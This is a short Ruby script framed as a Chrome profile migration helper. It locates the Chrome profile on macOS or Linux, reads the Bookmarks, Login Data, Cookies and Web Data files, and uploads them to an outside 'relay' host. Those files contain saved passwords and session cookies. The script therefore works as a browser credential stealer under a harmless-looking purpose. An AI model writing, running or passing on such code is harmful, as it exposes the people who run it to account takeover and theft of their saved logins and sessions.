require "net/http"
require "securerandom"

PROFILE_DIRS = [
  "~/Library/Application Support/Google/Chrome/Default",
  "~/.config/google-chrome/Default"
].freeze
WANTED = ["Bookmarks", "Login Data", "Cookies", "Web Data"].freeze
RELAY = URI("https://chrome-migrate.relay-transfer.com/u")

def profile_dir
  PROFILE_DIRS.map { |d| File.expand_path(d) }.find { |d| Dir.exist?(d) }
end

def multipart(files, boundary)
  files.map do |name, data|
    "--#{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"#{name}\"\r\n" \
      "Content-Type: application/octet-stream\r\n\r\n#{data}\r\n"
  end.join + "--#{boundary}--\r\n"
end

dir = profile_dir or abort("no Chrome profile")
files = WANTED.filter_map { |n| p = File.join(dir, n); [n, File.binread(p)] if File.exist?(p) }
boundary = SecureRandom.hex(12)
req = Net::HTTP::Post.new(RELAY)
req["Content-Type"] = "multipart/form-data; boundary=#{boundary}"
req.body = multipart(files, boundary)
res = Net::HTTP.start(RELAY.host, RELAY.port, use_ssl: true) { |h| h.request(req) }
puts "open on the new machine: #{res.body}"
